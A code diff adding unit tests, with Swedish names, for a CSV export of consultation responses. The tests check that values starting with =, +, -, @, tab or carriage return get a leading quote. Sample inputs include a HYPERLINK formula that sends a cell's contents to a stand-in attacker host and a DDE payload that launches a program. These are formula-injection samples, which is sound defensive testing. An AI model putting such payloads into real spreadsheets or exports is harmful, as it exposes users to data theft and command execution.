@@ -41,4 +41,22 @@ describe('remissammanställning', () => {
     expect(lines).toContain(';;Utbildningsnämnden;Övrigt;;"Allmänt; ""bra""";;');
     expect(lines).toContain(';;Tekniska nämnden;Avstår;;;;');
   });
+
+  it.each([
+    ['=HYPERLINK("https://angripare.example/?d="&A1;"Klicka här")', `"'=HYPERLINK(""https://angripare.example/?d=""&A1;""Klicka här"")"`],
+    ['+46 171 625 00', `"'+46 171 625 00"`],
+    ['-2+3', `"'-2+3"`],
+    ['@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
+    ['\t=1+1', `"'\t=1+1"`],
+    ['\r=1+1', `"'\r=1+1"`],
+  ])('writes text that a spreadsheet would run as a formula (%j) as text: a leading quote, quoted', (text, expected) => {
+    const farlig = sammanstall(huvud, [rad({ instans: '=cmd|/C calc!A0', text, strykText: '=1+1' })], []);
+    const lines = sammanstallningCsv(farlig).toString('utf8').slice(1).split('\r\n');
+    expect(lines[1]).toBe(`;;"'=cmd|/C calc!A0";Övrigt;;${expected};"'=1+1";`);
+  });
+
+  it('leaves text that only contains those characters, and numbers, as they are', () => {
+    const vanlig = sammanstall(huvud, [rad({ text: 'Mejla a@b.se eller ring 0171-625 00 = snabbast', sida: 3, handling: 'Policy', handlingOrdning: 1 })], []);
+    expect(sammanstallningCsv(vanlig).toString('utf8').slice(1).split('\r\n')[1]).toBe('Policy;3;Utbildningsnämnden;Övrigt;;Mejla a@b.se eller ring 0171-625 00 = snabbast;;');
+  });
 });
